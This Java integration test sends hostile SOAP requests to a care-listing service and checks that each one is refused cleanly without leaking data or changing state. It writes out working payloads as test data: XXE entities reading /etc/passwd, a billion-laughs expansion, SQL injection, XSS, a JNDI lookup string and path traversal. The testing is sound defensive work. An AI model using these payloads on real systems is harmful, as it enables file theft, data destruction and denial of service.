package se.listning.region.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static se.listning.region.hostile.HostileRequests.escape;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BiFunction;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import se.listning.region.soap.CarelistingContract;
import se.listning.region.testing.RegionIT;

/**
 * Hostile input over real HTTP against all seven endpoints (issue 7, point 4): XML attacks, encodings, SOAP
 * version and contract mismatches, and injection and overlong strings in every text field of CreateListing and
 * UpdateListing. Every case must be answered with a SOAP envelope that is a soap:Client fault or a refusing
 * resultCode with a readable text, that shows neither a full personnummer nor a stack trace, and the tables a
 * request may write keep their row counts (the audit log may grow).
 */
class HostileSoapIT extends RegionIT {

    /** What a case must be answered with. */
    enum Expect {
        /** soap:Client fault */
        CLIENT_FAULT,
        /** resultCode ERROR (or another refusing code) with a text */
        REFUSED_RESULT,
        /** either of the two */
        REFUSED,
        /** a field the service only reads as information: any answer but a fault; OK may change state */
        ACCEPTED_OR_REFUSED
    }

    /** One hostile request: the endpoint it is posted to, its SOAPAction, Content-Type and bytes. */
    record Case(String category, String name, CarelistingContract endpoint, String soapAction, String contentType,
                BiFunction<String, String, byte[]> body, Expect expect) {
    }

    /** Stands for the request's own personnummer: echoed back in full, it would leak. */
    static final String PERSON_ID = "{personnummer}";

    static final List<String> INJECTIONS = List.of(
            "' or 1=1--", "'; drop table listing; --", "<script>alert(1)</script>", "${jndi:ldap://x.example/a}",
            "%00", "\u202Eexe.txt\u200B\uFEFF\u200D", "../../../../etc/passwd", "\\u0000", "A".repeat(60_000),
            PERSON_ID);


    private static final String XML = "text/xml; charset=UTF-8";
    private static final Map<String, int[]> TALLY = new TreeMap<>();
    private static HttpServer trap;
    private static final AtomicInteger TRAP_HITS = new AtomicInteger();

    @BeforeAll
    static void startTrap() throws IOException {
        trap = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        trap.createContext("/", exchange -> {
            TRAP_HITS.incrementAndGet();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        trap.start();
    }

    @AfterAll
    static void report() {
        trap.stop(0);
        int[] total = new int[2];
        StringBuilder text = new StringBuilder("HostileSoapIT: inputs tried / refused per category:");
        TALLY.forEach((category, counts) -> {
            text.append("\n  ").append(category).append(": ").append(counts[0]).append(" / ").append(counts[1]);
            total[0] += counts[0];
            total[1] += counts[1];
        });
        text.append("\n  total: ").append(total[0]).append(" / ").append(total[1]).append(", state changes on refusal: 0")
                .append(", outbound fetches of external entities: ").append(TRAP_HITS.get());
        System.out.println(text);
    }

    @TestFactory
    Stream<DynamicTest> everyHostileRequestIsRefusedCleanly() {
        return cases().stream().map(c -> DynamicTest.dynamicTest(c.category() + ": " + c.name(), () -> run(c)));
    }

    private void run(Case c) {
        String pnr = fixtures.resident().create().value();
        String unit = fixtures.facility().create().value();
        byte[] body = c.body().apply(pnr, unit);
        TableCounts before = TableCounts.of(jdbc);

        SoapAnswer answer = new SoapWire(port).post(c.endpoint(), c.soapAction(), c.contentType(), body);

        TableCounts after = TableCounts.of(jdbc);
        assertThat(answer.isSoapEnvelope()).as("a SOAP 1.1 envelope, got %s", answer).isTrue();
        assertThat(answer.showsStackTrace()).as("stack trace in %s", answer).isFalse();
        assertThat(answer.echoesFullPersonnummer()).as("full personnummer in %s", answer).isFalse();
        assertThat(answer.explanation()).as("a readable explanation in %s", answer).isNotBlank();
        assertThat(answer.faultCode()).as("never a server fault: %s", answer).isNotEqualTo("Server");
        boolean refused = answer.isFault() || !"OK".equals(answer.resultCode()) && !"INFO".equals(answer.resultCode());
        switch (c.expect()) {
            case CLIENT_FAULT -> assertThat(answer.faultCode()).as("soap:Client fault: %s", answer).isEqualTo("Client");
            case REFUSED_RESULT -> assertThat(answer.resultCode()).as("refusing resultCode: %s", answer)
                    .isNotNull().isNotIn("OK", "INFO");
            case REFUSED -> assertThat(refused).as("refused: %s", answer).isTrue();
            case ACCEPTED_OR_REFUSED -> assertThat(answer.isFault()).as("no fault: %s", answer).isFalse();
        }
        if (refused) {
            assertThat(after).as("no state change on refusal").isEqualTo(before);
        }
        assertThat(after.nothingLost(before)).isTrue();
        synchronized (TALLY) {
            int[] counts = TALLY.computeIfAbsent(c.category(), k -> new int[2]);
            counts[0]++;
            counts[1] += refused ? 1 : 0;
        }
    }

    private List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        for (CarelistingContract contract : CarelistingContract.values()) {
            xmlAttacks(contract, cases);
        }
        mismatches(cases);
        for (String field : HostileRequests.CREATE_LISTING_FIELDS) {
            for (String injection : INJECTIONS) {
                if (injection.equals(PERSON_ID) && field.endsWith("/extension") && !field.contains("County")) {
                    continue; // the person's own number is the valid value there
                }
                cases.add(fieldCase(CarelistingContract.CREATE_LISTING, field, injection));
            }
        }
        for (String field : HostileRequests.UPDATE_LISTING_FIELDS) {
            for (String injection : INJECTIONS) {
                if (injection.equals(PERSON_ID) && field.endsWith("/extension") && !field.contains("County")) {
                    continue; // the person's own number is the valid value there
                }
                cases.add(fieldCase(CarelistingContract.UPDATE_LISTING, field, injection));
            }
        }
        return cases;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Puts a DOCTYPE in front of the envelope and an entity reference into the first text node after the header. */
    private static String withDoctype(String envelope, String doctype, String reference) {
        String withoutProlog = envelope.replaceFirst("^<\\?xml[^>]*\\?>", "");
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + doctype
                + withoutProlog.replace("<itr:LogicalAddress>01", "<itr:LogicalAddress>" + reference + "01");
    }

    private void xmlAttacks(CarelistingContract k, List<Case> cases) {
        String action = k.soapAction();
        String name = k.contractName();
        cases.add(new Case("xxe", name + " external entity to a file", k, action, XML, (p, u) -> utf8(withDoctype(
                HostileRequests.valid(k, p, u), "<!DOCTYPE e [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", "&xxe;")),
                Expect.CLIENT_FAULT));
        cases.add(new Case("xxe", name + " external entity over http", k, action, XML, (p, u) -> utf8(withDoctype(
                HostileRequests.valid(k, p, u), "<!DOCTYPE e [<!ENTITY xxe SYSTEM \"http://127.0.0.1:"
                        + trap.getAddress().getPort() + "/xxe\">]>", "&xxe;")), Expect.CLIENT_FAULT));
        cases.add(new Case("xxe", name + " external DTD and parameter entity", k, action, XML, (p, u) -> utf8(withDoctype(
                HostileRequests.valid(k, p, u), "<!DOCTYPE e SYSTEM \"http://127.0.0.1:" + trap.getAddress().getPort()
                        + "/dtd\" [<!ENTITY % pe SYSTEM \"http://127.0.0.1:" + trap.getAddress().getPort()
                        + "/pe\"> %pe;]>", "")), Expect.CLIENT_FAULT));
        cases.add(new Case("entity expansion", name + " billion laughs", k, action, XML, (p, u) -> {
            StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol0 \"lol\">");
            for (int i = 1; i < 10; i++) {
                dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
            }
            return utf8(withDoctype(HostileRequests.valid(k, p, u), dtd.append("]>").toString(), "&lol9;"));
        }, Expect.CLIENT_FAULT));
        // without a DTD, &x; is undeclared: the message is not well-formed and must not be read as if it were absent
        cases.add(new Case("undeclared entity", name + " in the LogicalAddress header", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("<itr:LogicalAddress>01", "<itr:LogicalAddress>0&x;1")),
                Expect.CLIENT_FAULT));
        cases.add(new Case("undeclared entity", name + " in an attribute of soap:Body", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("<soapenv:Body>", "<soapenv:Body xmlns:x=\"urn:x\" x:a=\"&x;\">")),
                Expect.CLIENT_FAULT));
        // the two list requests carry no personnummer
        if (k != CarelistingContract.GET_LISTING_TYPES && k != CarelistingContract.GET_AVAILABLE_HEALTHCARE_FACILITIES) {
            cases.add(new Case("undeclared entity", name + " inside the personnummer", k, action, XML, (p, u) -> utf8(
                    HostileRequests.valid(k, p, u).replace(">" + p + "<", ">" + p.substring(0, 8) + "&x;" + p.substring(8)
                            + "<")), Expect.CLIENT_FAULT));
        }
        cases.add(new Case("nesting", name + " 500 nested elements", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("</soapenv:Header>",
                        "<x:a xmlns:x=\"urn:deep\">".repeat(500) + "</x:a>".repeat(500) + "</soapenv:Header>")),
                Expect.CLIENT_FAULT));
        cases.add(new Case("nesting", name + " 5000 sibling elements", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("</soapenv:Header>",
                        "<x:s xmlns:x=\"urn:wide\">" + "<x:a/>".repeat(5000) + "</x:s></soapenv:Header>")),
                Expect.CLIENT_FAULT));
        cases.add(new Case("size", name + " 2 MB body", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u) + "<!--" + "x".repeat(2_000_000) + "-->"), Expect.CLIENT_FAULT));
        cases.add(new Case("size", name + " 100,000-character text node", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("<itr:LogicalAddress>01", "<itr:LogicalAddress>"
                        + "0".repeat(100_000) + "01")), Expect.CLIENT_FAULT));
        cases.add(new Case("encoding", name + " invalid UTF-8 bytes", k, action, XML, (p, u) -> {
            byte[] valid = utf8(HostileRequests.valid(k, p, u).replace("<itr:LogicalAddress>01",
                    "<itr:LogicalAddress>01@@"));
            String text = new String(valid, StandardCharsets.ISO_8859_1);
            int at = text.indexOf("@@");
            valid[at] = (byte) 0xC3;
            valid[at + 1] = (byte) 0x28;
            return valid;
        }, Expect.CLIENT_FAULT));
        cases.add(new Case("encoding", name + " UTF-16 body declared UTF-8", k, action, XML,
                (p, u) -> HostileRequests.valid(k, p, u).getBytes(StandardCharsets.UTF_16), Expect.CLIENT_FAULT));
        cases.add(new Case("encoding", name + " illegal character reference &#0;", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("<itr:LogicalAddress>01", "<itr:LogicalAddress>&#0;01")),
                Expect.CLIENT_FAULT));
        cases.add(new Case("soap version", name + " SOAP 1.2 envelope", k, action,
                "application/soap+xml; charset=UTF-8; action=\"" + action + "\"", (p, u) -> utf8(
                        HostileRequests.valid(k, p, u).replace("http://schemas.xmlsoap.org/soap/envelope/",
                                "http://www.w3.org/2003/05/soap-envelope")), Expect.CLIENT_FAULT));
        cases.add(new Case("soap version", name + " SOAP 1.2 envelope as text/xml", k, action, XML, (p, u) -> utf8(
                HostileRequests.valid(k, p, u).replace("http://schemas.xmlsoap.org/soap/envelope/",
                        "http://www.w3.org/2003/05/soap-envelope")), Expect.CLIENT_FAULT));
        cases.add(new Case("malformed", name + " empty body", k, action, XML, (p, u) -> new byte[0], Expect.CLIENT_FAULT));
        cases.add(new Case("malformed", name + " truncated envelope", k, action, XML, (p, u) -> {
            String valid = HostileRequests.valid(k, p, u);
            return utf8(valid.substring(0, valid.length() - 30));
        }, Expect.CLIENT_FAULT));
    }

    private void mismatches(List<Case> cases) {
        var create = CarelistingContract.CREATE_LISTING;
        var get = CarelistingContract.GET_LISTING;
        var update = CarelistingContract.UPDATE_LISTING;
        cases.add(new Case("contract mismatch", "CreateListing body to the GetListing endpoint", get, get.soapAction(), XML,
                (p, u) -> utf8(HostileRequests.valid(create, p, u)), Expect.CLIENT_FAULT));
        cases.add(new Case("contract mismatch", "CreateListing body and SOAPAction to the GetListing endpoint", get,
                create.soapAction(), XML, (p, u) -> utf8(HostileRequests.valid(create, p, u)), Expect.CLIENT_FAULT));
        cases.add(new Case("contract mismatch", "UpdateListing body to the CreateListing endpoint", create,
                create.soapAction(), XML, (p, u) -> utf8(HostileRequests.valid(update, p, u)), Expect.CLIENT_FAULT));
        cases.add(new Case("contract mismatch", "CreateListing with the SOAPAction of UpdateListing", create,
                update.soapAction(), XML, (p, u) -> utf8(HostileRequests.valid(create, p, u)), Expect.CLIENT_FAULT));
        cases.add(new Case("contract mismatch", "CreateListing in namespace version 1", create, create.soapAction(), XML,
                (p, u) -> utf8(HostileRequests.valid(create, p, u).replace(create.responderNamespace(),
                        create.responderNamespace().replace(":2", ":1"))), Expect.CLIENT_FAULT));
        cases.add(new Case("contract mismatch", "CreateListing with core namespace 2.1 for 2", create, create.soapAction(),
                XML, (p, u) -> utf8(HostileRequests.valid(create, p, u).replace(
                        "urn:riv:supportprocess:logistics:carelisting:2\"", "urn:riv:supportprocess:logistics:carelisting:2.1\"")),
                Expect.CLIENT_FAULT));
        cases.add(new Case("contract mismatch", "UpdateListing in namespace version 1", update, update.soapAction(), XML,
                (p, u) -> utf8(HostileRequests.valid(update, p, u).replace(update.responderNamespace(),
                        update.responderNamespace().replace(":2", ":1"))), Expect.CLIENT_FAULT));
    }

    private Case fieldCase(CarelistingContract contract, String field, String injection) {
        String label = injection.length() > 40 ? injection.length() + " characters" : injection;
        String category = injection.length() > 1000 ? "overlong field" : "injection";
        Expect expect = HostileRequests.INFORMATIONAL.contains(field) ? Expect.ACCEPTED_OR_REFUSED
                : contract == CarelistingContract.UPDATE_LISTING ? Expect.REFUSED_RESULT : Expect.REFUSED;
        return new Case(category, contract.contractName() + " " + field + " = " + label, contract,
                contract.soapAction(), XML, (p, u) -> {
                    String valid = switch (field) {
                        case "actor/actorId/root", "personId/root" -> HostileRequests.PNR_ROOT;
                        case "actor/actorId/extension", "personId/extension" -> p;
                        case "healthcareFacilityHSAId", "healthcarePersonnel" -> u;
                        case "homeCounty/root", "newListingCounty/root" -> HostileRequests.COUNTY_ROOT;
                        case "homeCounty/extension", "newListingCounty/extension" -> "01";
                        case "listingType/code" -> "PV";
                        case "listingType/codeSystem" -> HostileRequests.NATIONAL;
                        case "actor/actorType" -> "CITIZEN";
                        case "addToQueue" -> "true";
                        default -> "";
                    };
                    String value = injection.equals(PERSON_ID) ? p : valid + injection;
                    Map<String, String> fields = Map.of(field, escape(value));
                    return utf8(contract == CarelistingContract.CREATE_LISTING
                            ? HostileRequests.createListing(p, u, fields) : HostileRequests.updateListing(p, fields));
                }, expect);
    }
}
